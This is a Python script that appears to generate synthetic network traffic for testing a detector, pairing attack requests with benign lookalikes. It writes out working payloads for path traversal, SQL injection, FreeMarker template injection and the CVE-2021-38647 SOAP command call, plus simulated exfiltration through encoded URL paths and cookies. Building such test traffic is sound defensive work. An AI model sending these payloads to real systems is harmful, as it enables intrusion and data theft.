#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""web_requests.py SCENARIO OUT: requests that leave the path or the value that they are for, or carry data in words; honest ones beside.

Inside is 10.20.1.0/24 and 10.20.2.0/24, outside 203.0.113.0/24. The forms are those of public advisories. No dependency."""
import base64

from conversation import Tcp, answer, dns, http, write_scenario

BROWSER = ["User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Accept: text/html,*/*"]
PAGE = answer(b"<html><body>Tea, bread and the weather.</body></html>")
ACCOUNTS = answer(b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", "text/plain")


def get(tape, at, client, server, path, reply=PAGE, method="GET", body=b""):
    c = Tcp(tape, at, client, server, 80).open()
    c.ask(http(method, server, path, BROWSER, body), reply)
    c.close()


def web_paths_and_values(tape):
    """A path that climbs (CVE-2021-41773), a gateway's (CVE-2020-5902), a file named in a value and shown, SQL in values, a template
    (CVE-2022-22954), the call for a command without a log-in (CVE-2021-38647), answered; and one scanner outside."""
    get(tape, 1, "10.20.1.10", "10.20.2.20", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")
    get(tape, 10, "10.20.1.11", "10.20.2.21", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin")
    get(tape, 20, "10.20.1.12", "10.20.2.22", "/show.php?page=../../../../../../etc/passwd", ACCOUNTS)
    values = ("1%27%20UNION%20SELECT%201,2,table_name%20FROM%20information_schema.tables--%20-", "1%20AND%201=1", "1%27%20OR%20%271%27=%271",
              "1)%20AND%20SLEEP(5)--", "1;WAITFOR%20DELAY%20%270:0:5%27--", "1%20UNION/**/ALL/**/SELECT%20NULL,NULL,CONCAT(0x71,user(),0x71)")
    for i, value in enumerate(values):
        get(tape, 30 + 3 * i, "10.20.1.13", "10.20.2.23", "/item.php?id=" + value)
        get(tape, 31 + 3 * i, "203.0.113.80", "10.20.2.24", "/item.php?id=" + value)
    word = "".join("%%%02x" % b for b in b'${"freemarker.template.utility.Execute"?new()("id")}')
    get(tape, 60, "10.20.1.14", "10.20.2.25", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=" + word)
    soap = (b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.dmtf.org/'
            b'wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command><p:timeout>0</p:timeout></p:ExecuteShellCommand_INPUT>'
            b"</s:Body></s:Envelope>")
    done = answer(b"<s:Envelope><s:Body><p:StdOut>uid=0(root) gid=0(root) groups=0(root)</p:StdOut></s:Body></s:Envelope>", "application/soap+xml")
    get(tape, 70, "10.20.1.15", "10.20.2.26", "/wsman", done, "POST", soap)


def benign_web_values(tape):
    """Filters of OData, consoles that are sent whole queries, names with quotes, versions with dots, a client that leaves dots in, a lesson."""
    paths = ["/odata/Orders?$filter=Id%20gt%205%20and%20length(Name)%20gt%203", "/odata/Orders?$filter=Id%20eq%207%20or%20substring(Name,1)%20eq%20%27a%27",
             "/?query=SELECT%201%20UNION%20ALL%20SELECT%202", "/query?db=m&q=SELECT%20mean(v)%20FROM%20cpu%20WHERE%20time%20>%205%20and%20host=%27a%27",
             "/search?q=O%27Neil%20and%20sons", "/search?q=rock%20%27n%27%20roll%20or%20jazz", "/compare/v1.0...v1.1", "/static/css/../img/logo.png",
             "/report?file=..%5C..%5Cimg%5Clogo.png&n=4%20and%20more", "/docs/union-select?page=2", "/tickets?jql=project=A%20and%20(status=open%20or%20due=5)"]
    for i in range(12):
        for k, path in enumerate(paths):
            get(tape, 1 + 40 * i + 3 * k, "10.20.1.30", "10.20.2.30", path)
    for i, words in enumerate(("%27%20or%20%271%27=%271", "union%20select%20tutorial", "1%20union%20select%202")):
        get(tape, 500 + 9 * i, "10.20.1.31", "10.20.2.31", "/wiki/search?q=" + words)


def word(tape, size):
    return base64.urlsafe_b64encode(tape.dice.randbytes(size)).decode()


def bare(tape, at, client, server, host, path, agent, cookie=None):
    c = Tcp(tape, at, client, server, 80).open()
    head = ["GET %s HTTP/1.1" % path, "Host: " + host, "User-Agent: " + agent] + (["Cookie: " + cookie] if cookie else [])
    c.ask(("\r\n".join(head) + "\r\n\r\n").encode(), answer(b""))
    c.close()


def http_words(tape):
    """27 kB each in paths, in values and in cookies, none of it in a body, to an address that nobody named."""
    agent = "Mozilla/5.0 (Windows NT 10.0)"
    for i in range(30):
        bare(tape, 1 + 2 * i, "10.20.1.16", "203.0.113.91", "203.0.113.91", "/img/%s.png" % word(tape, 900), agent)
        bare(tape, 1.5 + 2 * i, "10.20.1.17", "203.0.113.92", "203.0.113.92", "/a?d=" + word(tape, 900), agent)
        bare(tape, 2 + 2 * i, "10.20.1.18", "203.0.113.93", "203.0.113.93", "/", agent, "s=" + word(tape, 900))


def benign_http_words(tape):
    """Certificates asked about (OCSP), files looked up by their hash, one long token with each request, a program that tells its maker."""
    for name, server in (("ocsp.authority.example", "203.0.113.101"), ("lookup.guard.example", "203.0.113.102"), ("app.maker.example", "203.0.113.103")):
        dns(tape, 0.5, "10.20.1.32", "10.20.1.1", name, server)
    dns(tape, 0.6, "10.20.1.33", "10.20.1.1", "feeds.paper.example", "203.0.113.104")
    token = word(tape, 700)
    for i in range(300):
        at = [1 + 6000 * tape.dice.random() ** 2 for _ in range(4)]
        question = "/MFEwTzBNMEswSTAJ" + word(tape, 66)
        bare(tape, at[0], "10.20.1.32", "203.0.113.101", "ocsp.authority.example", question, "Microsoft-CryptoAPI/10.0")
        bare(tape, at[1], "10.20.1.32", "203.0.113.102", "lookup.guard.example", "/v1/" + tape.dice.randbytes(32).hex(), "guard/2.1")
        if i % 8 == 0:
            bare(tape, at[2], "10.20.1.33", "203.0.113.104", "feeds.paper.example", "/feed", "reader/1.0", "session=" + token)
            bare(tape, at[3], "10.20.1.32", "203.0.113.103", "app.maker.example", "/e?m=" + word(tape, 400), "maker-app/3.2")


if __name__ == "__main__":
    write_scenario(__doc__, web_paths_and_values, benign_web_values, http_words, benign_http_words)
